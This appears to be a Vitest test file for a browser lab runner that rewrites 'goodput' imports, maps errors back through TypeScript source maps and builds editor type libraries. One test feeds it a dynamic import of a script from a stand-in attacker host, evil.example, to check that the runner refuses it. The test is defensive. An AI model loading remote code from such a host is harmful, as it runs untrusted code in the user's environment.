// The pieces of the browser runner that can be tested in Node: import rewriting, source-map lookup, editor types.
import { readdirSync, readFileSync } from 'node:fs';
import ts from 'typescript';
import { describe, expect, it } from 'vitest';
import { importedModules, LabImportError, rewriteLabImports } from '../../graders/labs/imports.ts';
import { frameIn, originalPosition } from '../../graders/labs/source-map.ts';
import { apiSourceLibs, entryLib, repoPaths } from '../../src/components/lab/lab-types.ts';

describe('rewriteLabImports', () => {
  it("points every 'goodput' import at the runner's module", () => {
    const js = [
      "import { percentile } from 'goodput';",
      'import * as g from "goodput";',
      "export { mean } from 'goodput';",
      "const lazy = () => import('goodput');",
    ].join('\n');
    const out = rewriteLabImports(js, 'blob:x/1');
    expect(out).not.toContain("'goodput'");
    expect(out).not.toContain('"goodput"');
    expect(out.match(/blob:x\/1/g)).toHaveLength(4);
  });

  it('refuses any other module, naming it and its line', () => {
    expect(() => rewriteLabImports("const a = 1;\nimport fs from 'node:fs';", 'blob:x')).toThrow(LabImportError);
    expect(() => rewriteLabImports("const a = 1;\nimport fs from 'node:fs';", 'blob:x')).toThrow(
      /line 2 imports 'node:fs'/,
    );
    expect(() => rewriteLabImports("await import('https://evil.example/x.js')", 'blob:x')).toThrow(/evil/);
  });

  it('lists specifiers with their lines', () => {
    expect(importedModules("\n\nimport './side-effect.js';")).toEqual([{ specifier: './side-effect.js', line: 3 }]);
  });
});

describe('source maps from the TypeScript compiler', () => {
  // An independent encoder: TypeScript itself writes the map, and we know which line each statement came from.
  const source = [
    'interface Input {',
    '  a: number;',
    '}',
    '',
    'type Pair = [number, number];',
    '',
    'export function f(i: Input): number {',
    '  const pair: Pair = [i.a, 2];',
    "  if (pair[0] < 0) throw new RangeError('negative');",
    '  return pair[0] * pair[1];',
    '}',
  ].join('\n');
  const out = ts.transpileModule(source, {
    compilerOptions: { target: ts.ScriptTarget.ESNext, module: ts.ModuleKind.ESNext, sourceMap: true },
  });
  const map = JSON.parse(out.sourceMapText ?? '{}');
  const jsLines = out.outputText.split('\n');

  it('maps each emitted statement back to its TypeScript line', () => {
    for (const [needle, tsLine] of [
      ['throw new RangeError', 9],
      ['return pair[0] * pair[1]', 10],
      ['const pair = [i.a, 2]', 8],
      ['export function f', 7],
    ] as const) {
      const idx = jsLines.findIndex((l) => l.includes(needle));
      expect(idx, needle).toBeGreaterThanOrEqual(0);
      const column = (jsLines[idx] ?? '').indexOf(needle) + 1;
      expect(originalPosition(map, { line: idx + 1, column })?.line, needle).toBe(tsLine);
    }
  });

  it('finds the learner module’s frame in a V8 stack', () => {
    const stack =
      'RangeError: negative\n    at f (blob:http://localhost/abc:4:29)\n    at run (http://localhost/w.js:1:1)';
    expect(frameIn(stack, 'blob:http://localhost/abc')).toEqual({ line: 4, column: 29 });
    expect(frameIn(stack, 'blob:http://localhost/zzz')).toBeNull();
  });

  it('returns null for a line with no mappings', () => {
    expect(originalPosition({ version: 3, mappings: ';;AAAA' }, { line: 1, column: 1 })).toBeNull();
  });
});

describe('editor types for the goodput module', () => {
  // As the page's import.meta.glob gathers them: every source under labs/api and src/engine.
  const sources: Record<string, string> = {};
  for (const dir of ['labs/api', 'src/engine'])
    for (const f of readdirSync(dir, { recursive: true }) as string[])
      if (f.endsWith('.ts')) sources[`${dir}/${f}`] = readFileSync(`${dir}/${f}`, 'utf8');

  it('ships the facade and what it imports, with .ts dropped from relative imports', () => {
    const libs = apiSourceLibs(sources);
    const paths = libs.map((l) => l.filePath);
    expect(paths).toContain('file:///goodput-lab-api/labs/api/goodput.ts');
    expect(paths).toContain('file:///goodput-lab-api/src/engine/metrics.ts');
    expect(paths).toContain('file:///goodput-lab-api/src/engine/sim/scheduler.ts');
    // Only what the facade reaches: the whole engine would be megabytes of page for nothing.
    expect(paths.length).toBeLessThan(10);
    for (const l of libs) expect(l.content).not.toMatch(/from\s*'\.{1,2}\/[^']*\.ts'/);
  });

  it('fails loudly when a module the facade needs is missing', () => {
    expect(() => apiSourceLibs({ 'labs/api/goodput.ts': sources['labs/api/goodput.ts'] ?? '' })).toThrow(/metrics\.ts/);
  });

  it('re-exports only the allowed names', () => {
    expect(entryLib(['percentile', 'mean']).content).toBe(
      "export { mean, percentile } from '../../goodput-lab-api/labs/api/goodput';\n",
    );
    expect(entryLib([]).content).toBe('export {};\n');
  });

  it('turns glob keys relative to the component into repository paths', () => {
    expect(Object.keys(repoPaths({ '../../engine/metrics.ts': '', '../../../labs/api/goodput.ts': '' }))).toEqual([
      'src/engine/metrics.ts',
      'labs/api/goodput.ts',
    ]);
  });
});
